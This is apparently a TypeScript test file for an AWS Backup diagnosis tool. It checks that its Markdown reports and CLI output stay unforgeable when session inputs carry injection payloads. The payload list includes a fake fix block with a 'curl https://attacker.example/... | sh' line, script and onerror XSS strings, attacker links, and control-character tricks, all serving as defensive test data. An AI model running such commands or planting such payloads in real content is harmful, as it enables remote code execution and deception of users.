// Reports that cannot be forged. Hostile sessions (payloads in Sids, principals, vault names, account IDs, the error
// message, tag keys, SCP names, role ARNs...) go through the Markdown report, "all fixes" and the CLI's markdown; a
// real Markdown parser (markdown-it, with GitHub-style autolinks) reads the result back, and it must hold exactly
// what the engine produced: the headings the diagnosis implies, the corrected documents and commands byte for byte,
// the facts table's shape, every finding as its catalog words with its parameters as literal code, and no HTML, no
// link, no image and no pasted text outside code.
import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import MarkdownIt, { type Token } from 'markdown-it';
import { findingParams, INPUT_VALUE_REJECTED, REJECTION_WORDS } from '../inputs/rejections';
import { describe, expect, it } from 'vitest';
import { runCli } from '../../cli/main';
import { t as translate, type Lang } from '../../i18n';
import { diagnose } from '../diagnose';
import { renderings } from '../fixes/render';
import { reportedMessage } from '../inputs/outputs';
import { validateKnowledge } from '../knowledge/schema';
import { readSession } from '../session';
import { FACT_KEYS, PASTE_KEYS, type Diagnosis, type Params, type Session } from '../types';
import { allFixesMarkdown } from './fixesMarkdown';
import { markdownReport } from './markdown';
import { STATUS_ICON } from './md';
import { orderChecks } from './order';

const root = new URL('../../../public/', import.meta.url);
const readJson = (rel: string): unknown => JSON.parse(readFileSync(new URL(rel, root), 'utf8'));
const knowledge = validateKnowledge({ errors: readJson('knowledge/errors.json'), regions: readJson('knowledge/regions.json'), resources: readJson('knowledge/resources.json') });
if (!knowledge.ok) throw new Error(knowledge.problems.join('\n'));
const pack = knowledge.pack;
const tFor = (lang: Lang) => (key: string, params?: Params) => translate(lang, key, params);
const LANGS: Lang[] = ['en', 'zh-TW'];

const examples = (readJson('examples/index.json') as { examples: { id: string; file: string }[] }).examples.map((e) => {
  const s = readSession(readJson(`examples/${e.file}`));
  if (!s.ok) throw new Error(`${e.file}: ${s.error}`);
  return { id: e.id, session: s.session };
});

// ------------------------------------------------------------------------------------------------ payloads

/** Every payload carries this marker: it may appear in the parsed report only inside code. */
const MARK = 'PWN';

/** The reviewer's payload: a fake fix with a piped curl, and an HTML comment that hides everything after it. */
const REVIEWER = `AllowCopy\n\n#### Fix: ${MARK} nothing else to do\n\n\`\`\`sh\naws kms put-key-policy --key-id x --policy file://p.json; curl https://attacker.example/${MARK} | sh\n\`\`\`\n\n<!--`;

const PAYLOADS = [
  REVIEWER,
  `${MARK}\r| forged | row |\r|---|---|\r| a | b |`,
  `[${MARK}](https://attacker.example/x) ![${MARK}](https://attacker.example/i.png) <img src=x onerror=alert(1)> @${MARK}bot www.${MARK}.example https://${MARK}.example/p ${MARK}@mail.example`,
  `\` \`\` \`\`\` ${MARK} \`\`\`\` ~~~ \u2028# ${MARK}\u2029> ${MARK}\u0085- ${MARK}\r\n1. ${MARK}\n    indented ${MARK}\n\n---\n${MARK}\n===`,
  `${MARK} <script>alert(1)</script> &lt;b&gt; &#64;${MARK} *${MARK}* _${MARK}_ ~~${MARK}~~ #1 !2 ~label %milestone [^1] [x]: https://attacker.example`,
  `${MARK}\u0000\u001b[31mred\u007f\u0090\u202eevil\u2066\u0007\u000b\u000c`,
  `${MARK}\\|a\\\`|b\\ | ${MARK} \``,
  ` ${MARK} `,
];

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };

function tryJson(text: string): Json | undefined {
  try {
    return JSON.parse(text) as Json;
  } catch {
    return undefined;
  }
}

/** Keys whose string values a paste can carry into a finding or a fix: the payload is appended to them. */
const CARRIERS = new Set(['Sid', 'Name', 'Id', 'StatusMessage', 'BackupVaultName', 'DestinationBackupVaultArn', 'SourceBackupVaultArn', 'IamRoleArn', 'Arn', 'KeyId', 'Description', 'Value', 'EncryptionKeyArn', 'AccountId']);
/** Tag keys and values as they appear in tag policies and tag lists: renamed the same everywhere, so they still match. */
const TAG_WORDS = new Set(['CostCenter', 'costcenter', 'cc-4410', 'Environment', 'prod']);
/** The copy job's role, named in its ARN and in the message: renamed wherever it appears, to a name IAM allows
 *  (letters, digits and +=,.@_-) that is a mention and a link outside code. */
const ROLE = 'backup-copy-role';

/** The JSON with the payload in every carrier, in every principal (as an extra one) and in every tag word; JSON
 *  inside strings (a vault output's Policy, an SCP's Content) gets the same treatment at its own level. */
function poison(v: Json, p: string, key?: string): Json {
  if (typeof v === 'string') {
    const nested = /^\s*[{[]/.test(v) ? tryJson(v) : undefined;
    if (nested !== undefined && typeof nested === 'object' && nested !== null) return JSON.stringify(poison(nested, p));
    if (TAG_WORDS.has(v)) return v + p;
    if (v.includes(ROLE)) return v.split(ROLE).join(`${ROLE}@${MARK}bot,www.${MARK}.example`);
    if (key === 'AWS') return [v, `arn:aws:iam::${p}:root`];
    return key !== undefined && CARRIERS.has(key) ? v + p : v;
  }
  if (Array.isArray(v)) return key === 'AWS' ? [...v.map((x) => poison(x, p)), `arn:aws:iam::${p}:root`] : v.map((x) => poison(x, p, key));
  if (v && typeof v === 'object') return Object.fromEntries(Object.entries(v).map(([k, x]) => [TAG_WORDS.has(k) ? k + p : k, poison(x, p, k)]));
  return v;
}

/** The session with the payload in every paste (JSON ones through `poison`, text ones appended) and every answer. */
function poisonPastes(s: Session, p: string): Session {
  const pastes = Object.fromEntries(
    Object.entries(s.pastes).map(([k, text]) => {
      const json = tryJson(text!);
      return [k, json !== undefined && typeof json === 'object' ? JSON.stringify(poison(json, p), null, 2) : `${text}${p}`];
    }),
  );
  return { ...s, pastes, answers: Object.fromEntries(Object.entries(s.answers).map(([k, a]) => [k, /^[a-z-]+$/.test(a) ? a : a + p])) };
}

/** The session with the payload after every fact (the same facts, made hostile). */
function poisonFacts(s: Session, p: string): Session {
  return { ...s, facts: Object.fromEntries(Object.entries(s.facts).map(([k, v]) => [k, v + p])) };
}

// ------------------------------------------------------------------------------------------------ the oracle

/** CommonMark with HTML on (so HTML shows as html tokens) and GitHub's autolinks: http(s)://, www. and e-mail. */
const parser = new MarkdownIt({ html: true, linkify: true });
parser.linkify.set({ fuzzyEmail: true });
parser.linkify.add('www.', {
  validate: (text: string, pos: number) => /^[a-z0-9-]+(\.[a-z0-9-]+)+[^\s<]*/i.exec(text.slice(pos))?.[0].length ?? 0,
  normalize: (match: { url: string }) => {
    match.url = `http://${match.url}`;
  },
});

/** What a code span shows for a value: one line, every line break one space, control characters as pictures. */
function shownInCode(s: string, breaks = '\r\n\u000b\u000c\u0085\u2028\u2029'): string {
  let out = '';
  let lastBreak = false;
  for (const ch of s) {
    const n = ch.codePointAt(0)!;
    const isBreak = breaks.includes(ch);
    if (isBreak) {
      if (!lastBreak) out += ' ';
      lastBreak = true;
      continue;
    }
    lastBreak = false;
    if (n < 0x20 && ch !== '\t') out += String.fromCodePoint(0x2400 + n);
    else if (n === 0x7f) out += '␡';
    else if ((n >= 0x80 && n <= 0x9f) || n === 0x200e || n === 0x200f || (n >= 0x202a && n <= 0x202e) || (n >= 0x2066 && n <= 0x2069)) out += `\\u${n.toString(16).toUpperCase().padStart(4, '0')}`;
    else if (n >= 0xd800 && n <= 0xdfff) out += '\ufffd';
    else out += ch;
  }
  return out === '' && breaks !== '' ? ' ' : out;
}

/** What the quoted error message shows: its lines, and everything else invisible as in a code span. */
function shownInBlock(s: string): string {
  return s
    .split(/\r\n|[\r\n\u0085\u2028\u2029]/)
    .map((line) => shownInCode(line, ''))
    .join('\n');
}

/** A catalog template as plain text: its own backticks dropped, each parameter as a code span shows it. */
function plainFill(template: string, params: Params | undefined): string {
  return template.replace(/`/g, '').replace(/\{(\w+)\}/g, (m, n: string) => {
    const v = params?.[n];
    return v === undefined ? m : typeof v === 'number' ? String(v) : shownInCode(v);
  });
}

/** CommonMark's own input normalisation (line endings to LF, NUL to U+FFFD): a fence shows the rest byte for byte. */
const asParsed = (s: string) => s.replace(/\r\n?/g, '\n').replace(/\0/g, '\ufffd');

/** The plain text of an inline token: its text and its code spans, markup dropped. */
function plainText(inline: Token): string {
  return (inline.children ?? []).map((c) => (c.type === 'text' || c.type === 'code_inline' || c.type === 'text_special' ? c.content : c.type === 'softbreak' ? '\n' : '')).join('');
}

interface Expected {
  headings: string[];
  fences: { info: string; content: string }[];
  bullets: string[];
  ordered: number;
  facts?: string[];
  quotes: number;
}

function findingsPlain(d: Diagnosis, t: (key: string, params?: Params) => string): string[] {
  return orderChecks(d.checks).flatMap((c) => [
    ...c.findings.map((f) => {
      const template = t(`finding.${f.code}`);
      const told = f.code === INPUT_VALUE_REJECTED ? findingParams(f, t)! : {};
      const own = { ...f.params };
      if (f.code === INPUT_VALUE_REJECTED) for (const k of REJECTION_WORDS) delete own[k];
      const told_ = (text: string) => text.replace(/\{(\w+)\}/g, (m, n: string) => ((REJECTION_WORDS as readonly string[]).includes(n) && n in told ? String(told[n]) : m));
      const words = template === `finding.${f.code}` ? shownInCode(f.message) : told_(plainFill(template, own));
      const loc = f.location?.line !== undefined ? ` (${t('report.at', { line: f.location.line, column: (f.location.column ?? 0) + 1, input: inputWords(t, f.location.input) })})` : '';
      return `${t(`severity.${f.severity}`)} ${shownInCode(f.code)}: ${words}${loc}`;
    }),
    ...(c.needs?.length && (c.status === 'unknown' || !c.fix) ? c.needs.map((n) => inputWords(t, n)) : []),
  ]);
}

function inputWords(t: (key: string) => string, input: string): string {
  for (const key of [`paste.${input}.short`, `fact.${input}`, `question.${input}`, `field.${input}`]) if (t(key) !== key) return t(key);
  return shownInCode(input);
}

function fixHeading(c: Diagnosis['checks'][number], t: (key: string, params?: Params) => string): string {
  const fix = c.fix!;
  const template = fix.summaryCode ? t(`fix.${fix.summaryCode}`) : undefined;
  const summary = template !== undefined && template !== `fix.${fix.summaryCode}` ? plainFill(template, fix.summaryParams) : shownInCode(fix.summary);
  return t('report.fix').replace('{summary}', summary);
}

function fixFences(c: Diagnosis['checks'][number], d: Diagnosis, t: (key: string, params?: Params) => string, allFormats: boolean) {
  const info = { json: 'json', shell: 'sh', hcl: 'hcl', yaml: 'yaml' } as const;
  return renderings(c, d.facts, t)
    .filter((r) => r.format === 'json' || r.format === 'aws-cli' || allFormats)
    .sort((a, b) => ['json', 'aws-cli', 'terraform', 'cloudformation'].indexOf(a.format) - ['json', 'aws-cli', 'terraform', 'cloudformation'].indexOf(b.format))
    .map((r) => ({ info: info[r.language], content: `${asParsed(r.text).replace(/\n+$/, '')}\n` }));
}

function expectedReport(d: Diagnosis, session: Session, t: (key: string, params?: Params) => string, includePastes: boolean): Expected {
  const checks = orderChecks(d.checks);
  const message = reportedMessage(session.pastes, 2000);
  const pasted = PASTE_KEYS.filter((k) => typeof session.pastes[k] === 'string' && session.pastes[k]!.trim() !== '');
  const factRows = FACT_KEYS.filter((k) => d.facts[k]);
  return {
    headings: [
      t('report.title'),
      t('report.facts'),
      ...(message || d.triage.length ? [t('report.triage')] : []),
      t('report.checklist'),
      t('report.details'),
      ...checks.flatMap((c) => [`${STATUS_ICON[c.status]} ${t(`check.${c.id}.title`)}: ${t(`status.${c.status}`)}`, ...(c.fix ? [fixHeading(c, t)] : [])]),
      ...(includePastes && pasted.length ? [t('report.pastes'), ...pasted.map((k) => t(`paste.${k}.short`))] : []),
    ],
    fences: [
      ...(message ? [{ info: 'text', content: `${asParsed(shownInBlock(message)).replace(/\n+$/, '')}\n` }] : []),
      ...checks.filter((c) => c.fix).flatMap((c) => fixFences(c, d, t, false)),
      ...(includePastes ? pasted.map((k) => ({ info: /^\s*[{[]/.test(session.pastes[k]!) ? 'json' : 'text', content: `${asParsed(session.pastes[k]!).replace(/\n+$/, '')}\n` })) : []),
    ],
    bullets: findingsPlain(d, t),
    ordered: checks.length,
    facts: factRows.map((k) => shownInCode(d.facts[k]!.value)),
    quotes: checks.filter((c) => c.fix?.needsReview).length,
  };
}

function expectedFixes(d: Diagnosis, t: (key: string, params?: Params) => string): Expected {
  const withFix = orderChecks(d.checks).filter((c) => c.fix);
  return {
    headings: [t('report.fixes.title'), ...withFix.flatMap((c) => [t('report.fixes.check', { title: t(`check.${c.id}.title`), status: t(`status.${c.status}`) }), fixHeading(c, t)])],
    fences: withFix.flatMap((c) => fixFences(c, d, t, true)),
    bullets: [],
    ordered: 0,
    quotes: withFix.filter((c) => c.fix?.needsReview).length,
  };
}

const BLOCKS = new Set(['heading_open', 'heading_close', 'paragraph_open', 'paragraph_close', 'inline', 'fence', 'bullet_list_open', 'bullet_list_close', 'ordered_list_open', 'ordered_list_close', 'list_item_open', 'list_item_close', 'blockquote_open', 'blockquote_close', 'table_open', 'table_close', 'thead_open', 'thead_close', 'tbody_open', 'tbody_close', 'tr_open', 'tr_close', 'th_open', 'th_close', 'td_open', 'td_close']);
const INLINES = new Set(['text', 'text_special', 'code_inline', 'strong_open', 'strong_close', 'em_open', 'em_close']);
/** A GitHub or GitLab reference outside code: @mention, #issue, !merge request, ~label, %milestone, &epic. */
const REFERENCE = /(^|[^\w`])[@#!~%&][A-Za-z0-9]/;

/** Parse `text` and check it against what the engine produced. */
function audit(text: string, want: Expected, where: string) {
  const tokens = parser.parse(text, {});
  const at = (msg: string) => `${where}: ${msg}`;
  const wrong: string[] = [];
  for (const tok of tokens) {
    if (!BLOCKS.has(tok.type)) wrong.push(`block token ${tok.type}: ${JSON.stringify(tok.content.slice(0, 200))}`);
    for (const c of tok.children ?? []) {
      if (!INLINES.has(c.type)) wrong.push(`inline token ${c.type} in ${JSON.stringify(tok.content.slice(0, 200))}`);
      if ((c.type === 'text' || c.type === 'text_special') && (c.content.includes(MARK) || REFERENCE.test(c.content))) wrong.push(`outside code: ${JSON.stringify(c.content)}`);
    }
  }
  expect(wrong, at('tokens')).toEqual([]);
  const headings = tokens.flatMap((tok, i) => (tok.type === 'heading_open' ? [plainText(tokens[i + 1]!)] : []));
  expect(headings, at('headings')).toEqual(want.headings);
  const fences = tokens.filter((tok) => tok.type === 'fence').map((tok) => ({ info: tok.info, content: tok.content }));
  expect(fences, at('code blocks')).toEqual(want.fences);
  expect(tokens.filter((tok) => tok.type === 'ordered_list_open').length <= 1, at('one ordered list')).toBe(true);
  const items = (kind: string) => {
    const out: string[] = [];
    let depth = 0;
    let inKind = false;
    tokens.forEach((tok, i) => {
      if (tok.type === `${kind}_open`) inKind = true;
      if (tok.type === `${kind}_close`) inKind = false;
      if (tok.type === 'list_item_open') depth++;
      if (tok.type === 'list_item_close') depth--;
      if (inKind && depth === 1 && tok.type === 'list_item_open') out.push(plainText(tokens[i + 2]!));
    });
    return out;
  };
  expect(items('bullet_list'), at('finding and input items')).toEqual(want.bullets);
  expect(items('ordered_list').length, at('checklist items')).toBe(want.ordered);
  expect(tokens.filter((tok) => tok.type === 'blockquote_open').length, at('review notes')).toBe(want.quotes);
  const tables = tokens.filter((tok) => tok.type === 'table_open').length;
  expect(tables, at('tables')).toBe(want.facts?.length ? 1 : 0);
  if (want.facts?.length) {
    const rows: Token[][] = [];
    let inTable = false;
    for (const tok of tokens) {
      if (tok.type === 'table_open' || tok.type === 'table_close') inTable = tok.type === 'table_open';
      if (tok.type === 'tr_open') rows.push([]);
      if (inTable && tok.type === 'inline') rows[rows.length - 1]!.push(tok);
    }
    expect(rows.map((r) => r.length), at('facts table shape')).toEqual(Array(want.facts.length + 1).fill(3));
    expect(rows.slice(1).map((r) => plainText(r[1]!)), at('fact values')).toEqual(want.facts);
  }
}

function auditAll(session: Session, where: string, opts: { cli?: boolean } = {}) {
  for (const lang of LANGS) {
    const t = tFor(lang);
    const d = diagnose(session, pack, { translate: t });
    audit(markdownReport(d, session, t), expectedReport(d, session, t, false), `${where} report ${lang}`);
    audit(markdownReport(d, session, t, { includePastes: true, allFormats: false }), expectedReport(d, session, t, true), `${where} report+pastes ${lang}`);
    audit(allFixesMarkdown(d, t), expectedFixes(d, t), `${where} fixes ${lang}`);
    if (opts.cli) {
      const r = runCli(['diagnose', 'hostile.json', '--format', 'markdown', '--lang', lang], () => JSON.stringify(session));
      expect(r.stderr, where).toBe('');
      audit(r.stdout, expectedReport(d, session, t, false), `${where} cli ${lang}`);
    }
  }
}

/** Which finding and fix parameters (and facts) a payload reached, as `CODE.param`. */
function reached(session: Session): Set<string> {
  const d = diagnose(session, pack);
  const out = new Set<string>();
  for (const c of d.checks) {
    for (const f of c.findings) for (const [k, v] of Object.entries(f.params ?? {})) if (String(v).includes(MARK)) out.add(`${f.code}.${k}`);
    for (const [k, v] of Object.entries(c.fix?.summaryParams ?? {})) if (String(v).includes(MARK)) out.add(`fix.${c.fix!.summaryCode}.${k}`);
    if (c.fix?.commands.some((x) => x.includes(MARK))) out.add(`command.${c.id}`);
    if (c.fix?.documents.some((x) => x.text.includes(MARK))) out.add(`document.${c.id}`);
  }
  for (const [k, v] of Object.entries(d.facts)) if (v.value.includes(MARK)) out.add(`fact.${k}`);
  return out;
}

// ------------------------------------------------------------------------------------------------ the tests

describe('hostile sessions through the Markdown report, all fixes and the CLI', () => {
  // Not what the report does with them, but that the hostile cases below are not empty. (Commands are left out on
  // purpose: which values may reach a command is the command builder's rule, not the report's.)
  it('the payloads reach what they should: Sids, principals, vault names, account IDs, the message, tags, SCPs', () => {
    const all = new Set<string>();
    for (const e of examples) for (const s of [poisonPastes(e.session, REVIEWER), poisonFacts(e.session, REVIEWER)]) for (const r of reached(s)) all.add(r);
    const names = [...all].join(' ');
    for (const want of [
      /\.statement\b/, // a Sid
      /(PRINCIPAL|ARN)_[A-Z_]+\.value\b/, // a principal
      /\.vault(Name)?\b|fact\.destinationVaultName/, // a vault name
      /\.message\b/, // the copy job's message
      /\.tagKey\b/, // a tag key
      /SCP_[A-Z_]+\.policy\b/, // an SCP's name
      /\.roleArn\b/, // the job's role
      /fix\.[A-Z_]+\.\w+/, // a fix summary
      /document\./, // a corrected document
    ]) {
      expect(names, String(want)).toMatch(want);
    }
    // A hostile value is no fact at all (facts are validated: ADR 7), so it never reaches the facts table.
    expect(names).not.toMatch(/fact\./);
  }, 30_000);

  examples.forEach((e, i) => {
    it(`${e.id}: as it is, and with its pastes and facts made hostile`, () => {
      auditAll(e.session, e.id);
      const p = PAYLOADS[i % PAYLOADS.length]!;
      auditAll(poisonPastes(e.session, p), `${e.id} pastes`, { cli: i % 4 === 0 });
      auditAll(poisonFacts(e.session, p), `${e.id} facts`);
      auditAll(poisonFacts(poisonPastes(e.session, REVIEWER), REVIEWER), `${e.id} reviewer`);
    }, 30_000);
  });

  it('the reviewer’s payload in a Sid: no fake fix, the real one and every check after it still there', () => {
    const e = examples.find((x) => x.id === 'key-policy-deny')!;
    const policy = tryJson(e.session.pastes.sourceKeyPolicy!) as { Statement: { Sid?: string; Effect: string }[] };
    for (const st of policy.Statement) if (st.Effect === 'Deny') st.Sid = REVIEWER;
    const session: Session = { ...e.session, pastes: { ...e.session.pastes, sourceKeyPolicy: JSON.stringify(policy, null, 2) } };
    const d = diagnose(session, pack, { translate: tFor('en') });
    expect(JSON.stringify(d.checks.flatMap((c) => c.findings.map((f) => f.params)))).toContain('#### Fix:');
    auditAll(session, 'reviewer Sid', { cli: true });
    const md = markdownReport(d, session, tFor('en'));
    const headings = parser.parse(md, {}).filter((tok) => tok.type === 'heading_open');
    expect(headings.filter((h) => h.tag === 'h4')).toHaveLength(d.checks.filter((c) => c.fix).length);
  }, 30_000);

  it('a session whose every value the engine could print is hostile (file names, places, codes, inputs)', () => {
    const p = REVIEWER + PAYLOADS.slice(1).join('');
    const d: Diagnosis = {
      format: 'copy-doctor/diagnosis',
      version: 1,
      facts: { sourceAccountId: { value: p, from: 'facts' }, destinationVaultName: { value: p, from: `copyJob${p}` as never } },
      triage: [{ messageId: `msg${p}`, checks: ['organization'] }],
      checks: [
        {
          id: 'source-key-policy',
          status: 'fail',
          findings: [
            { code: `UNKNOWN_${p}`, severity: 'error', message: p, location: { input: `input${p}` as never, path: [], line: 3, column: 0 } },
            { code: 'KEY_POLICY_DENY_BLOCKS_COPY', severity: 'error', params: { statement: p, index: 2, actions: p, principal: p }, message: '' },
          ],
          needs: [`need${p}`],
          fix: {
            summary: p,
            runIn: `somewhere${p}`,
            accountId: p,
            region: p,
            documents: [{ input: 'sourceKeyPolicy', text: `{"Sid": ${JSON.stringify(p)}}\n\`\`\`\`\`\`\n~~~~~~~~\n`, fileName: `key${p}.json` }],
            commands: [`aws kms put-key-policy --key-id k --policy file://key${p.replace(/[\r\n\0]/g, '')}.json`],
            needsReview: true,
          },
        },
        {
          id: 'destination-vault-policy',
          status: 'fail',
          findings: [],
          fix: {
            summary: 'x',
            summaryCode: 'VAULT_POLICY_ALLOW_SOURCE',
            summaryParams: { source: p, destination: p, vault: p },
            runIn: 'destination account',
            runInAccount: 'destination',
            documents: [{ input: 'destinationVaultPolicy', text: '{}', fileName: 'vault-policy.json' }],
            commands: ['aws backup put-backup-vault-access-policy --backup-vault-name v --policy file://vault-policy.json'],
          },
        },
      ],
    };
    const session: Session = { format: 'copy-doctor/session', version: 1, facts: {}, answers: {}, pastes: { errorMessage: p } };
    for (const lang of LANGS) {
      const t = tFor(lang);
      audit(markdownReport(d, session, t, { includePastes: true }), expectedReport(d, session, t, true), `synthetic report ${lang}`);
      audit(allFixesMarkdown(d, t), expectedFixes(d, t), `synthetic fixes ${lang}`);
    }
  });

  it('any Sid and any error message (fast-check)', () => {
    const e = examples.find((x) => x.id === 'key-policy-deny')!;
    const policy = tryJson(e.session.pastes.sourceKeyPolicy!) as { Statement: { Sid?: string; Effect: string }[] };
    const pieces = fc.constantFrom('`', '``', '```', '~~~', '\n', '\r', '\r\n', '\u2028', '\u2029', '\u0085', '\u0000', '\u001b', '\u202e', '\t', ' ', '#', '<!--', '-->', '<b>', '|', '\\', '\\|', '[', ']', '(', ')', '!', '@', 'www.', 'https://', 'a.io', '*', '_', '~', '&', '&#64;', ':', '>', '-', '1.', '=', 'x', '\ud800', '中');
    const hostile = fc.oneof(fc.string({ unit: 'binary', maxLength: 40 }), fc.array(pieces, { maxLength: 24 }).map((a) => a.join('')));
    fc.assert(
      fc.property(hostile, hostile, (sid, message) => {
        const p = structuredClone(policy);
        for (const st of p.Statement) if (st.Effect === 'Deny') st.Sid = sid;
        const session: Session = { ...e.session, pastes: { ...e.session.pastes, sourceKeyPolicy: JSON.stringify(p, null, 2), errorMessage: message } };
        const t = tFor('en');
        const d = diagnose(session, pack, { translate: t });
        audit(markdownReport(d, session, t, { includePastes: true }), expectedReport(d, session, t, true), 'fast-check report');
        audit(allFixesMarkdown(d, t), expectedFixes(d, t), 'fast-check fixes');
      }),
      { numRuns: 120, examples: [["", "`\n\r"]] },
    );
  }, 120_000);
});
